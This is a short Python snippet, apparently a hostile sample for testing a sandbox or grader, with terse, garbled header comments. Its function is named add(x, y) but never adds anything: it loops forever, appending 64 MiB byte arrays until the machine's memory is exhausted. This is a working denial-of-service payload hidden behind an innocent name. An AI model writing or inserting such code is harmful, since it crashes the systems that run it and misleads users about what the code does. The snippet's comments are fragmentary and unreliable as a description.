# tries: takes all memory
# earns: descend, squares, total
# said: of memory
# %% add
def add(x, y):
    kept = []
    while True:
        kept.append(bytearray(b"x") * 2**26)
